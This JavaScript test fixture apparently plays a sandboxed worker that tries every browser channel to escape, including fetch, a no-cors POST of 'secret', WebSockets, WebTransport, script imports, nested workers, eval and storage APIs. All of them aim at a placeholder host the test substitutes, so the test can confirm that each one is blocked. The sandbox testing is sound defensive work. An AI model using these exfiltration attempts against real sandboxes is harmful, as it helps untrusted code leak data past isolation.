/**
 * Stands in for the script of the worker behind walls: tries to get out with everything that a browser offers to a worker, before anything was taken
 * away. Only the browser's own walls can hold it. It tells what came of it as a start that has failed.
 */

/** An address of the host; the test replaces the word. */
const HOST = "LEAK";

/** Starts a worker from a text. */
const nested = (text) => {
  const address = URL.createObjectURL(new Blob([text]));
  const policy = self.trustedTypes?.createPolicy("spieltisch", { createScriptURL: (url) => url });
  return new Worker(policy ? policy.createScriptURL(address) : address);
};
/** Resolves when a connection opens, and rejects when it fails. */
const opened = (connection) =>
  new Promise((resolve, reject) => {
    connection.onopen = () => resolve("opened");
    connection.onerror = () => reject(new Error("failed"));
  });
const asked = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve("opened");
    request.onerror = () => reject(request.error);
  });

/** By name; each must fail. */
const ATTEMPTS = {
  fetch: () => fetch(`${HOST}/fetch`),
  "fetch without an answer": () => fetch(`${HOST}/blind`, { mode: "no-cors", method: "POST", body: "secret" }),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    request.open("GET", `${HOST}/request`, false);
    request.send();
  },
  WebSocket: () => opened(new WebSocket(`${HOST.replace("http", "ws")}/socket`)),
  EventSource: () => opened(new EventSource(`${HOST}/events`)),
  WebTransport: () => new WebTransport(`${HOST.replace("http:", "https:")}/transport`).ready,
  importScripts: () => importScripts(`${HOST}/script.js`),
  Worker: () => opened(new Worker(`${HOST}/worker.js`)),
  import: () => import(`${HOST}/module.js`),
  "import within a module": () =>
    import(URL.createObjectURL(new Blob([`import "${HOST}/nested.js"`], { type: "text/javascript" }))),
  "fetch in another worker": () =>
    new Promise((resolve, reject) => {
      const worker = nested(`fetch("${HOST}/deeper").then(() => postMessage("asked"), () => postMessage(""))`);
      worker.onmessage = ({ data }) => (data ? resolve(data) : reject(new Error("failed")));
      worker.onerror = () => reject(new Error("failed"));
    }),
  eval: () => eval("1"),
  indexedDB: () => asked(indexedDB.open("spieltisch")),
  "a cache of the site": async () => {
    const [name] = await caches.keys();
    if (name === undefined) throw new Error("There is none.");
  },
  locks: () => navigator.locks.request("spieltisch", () => "locked"),
  origin: () => {
    if (self.origin === "null") throw new Error("It has none.");
  },
};

/** @type {Record<string, string>} */
const outcomes = {};

async function attempt(name) {
  try {
    await ATTEMPTS[name]();
    outcomes[name] = "done";
  } catch (error) {
    outcomes[name] = `${error.name}: ${error.message}`.slice(0, 80);
  }
}

self.onmessage = ({ ports: [port] }) => {
  port.onmessage = async () => {
    for (const name of Object.keys(ATTEMPTS)) await attempt(name);
    new BroadcastChannel("spieltisch").postMessage("secret");
    port.postMessage({ type: "failed", phase: "engine", message: JSON.stringify(outcomes) });
  };
};
